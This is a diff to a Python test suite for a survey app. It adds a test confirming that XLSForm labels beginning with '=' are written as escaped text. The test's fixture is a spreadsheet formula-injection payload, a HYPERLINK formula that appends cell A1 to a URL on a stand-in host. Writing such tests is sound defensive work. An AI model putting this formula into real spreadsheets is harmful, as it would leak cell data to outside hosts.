@@ -185,6 +185,7 @@ def test_bad_input(case, request, catalogue_db, commune, accounts, tmp_path):
     else:
         status, said = send(case, body, request.getfixturevalue("http"), accounts)
     after = state(engine)
+    print(f"\n=== {case['id']} {status}\n{said[:1500]}")
     assert status == case["status"], said
     for fragment in [case["says"], *case.get("also_says", ())]:
         assert fragment in said, f"{fragment!r} not in: {said}"
@@ -194,3 +195,25 @@ def test_bad_input(case, request, catalogue_db, commune, accounts, tmp_path):
         {"survey_record", "probable_duplicate"} if case.get("stored") else set())
     changed = {t for t in TABLES if before[t] != after[t]} - expected_changes
     assert changed == set(), f"tables changed by a refused input: {sorted(changed)}"
+
+
+def test_a_formula_in_a_form_label_is_written_as_text():
+    """Every cell of the XLSForm the app writes goes through geodata.text.safe_cell: openpyxl stores text that starts
+    with "=" as a formula, which Excel would run (=HYPERLINK sends the reader away)."""
+    import dataclasses
+    from io import BytesIO
+
+    from openpyxl import load_workbook
+
+    from survey.definition import FORM
+    from survey.xlsform import xlsform_bytes
+
+    formula = '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào")'
+    fields = tuple(dataclasses.replace(f, vi=formula) if f.name == "surveyor" else f for f in FORM.fields)
+    book = load_workbook(BytesIO(xlsform_bytes(dataclasses.replace(FORM, fields=fields))))
+    cells = [c for row in book["survey"].iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert ("s", "'" + formula) in [(c.data_type, c.value) for c in cells]
+    assert [c.coordinate for c in cells if c.data_type == "f" or c.value.startswith("=")] == []
+    # The real form has no such label: its cells are unchanged by the rule.
+    plain = load_workbook(BytesIO(xlsform_bytes(FORM)))
+    assert not any(isinstance(c.value, str) and c.value.startswith("'") for ws in plain for row in ws.iter_rows() for c in row)
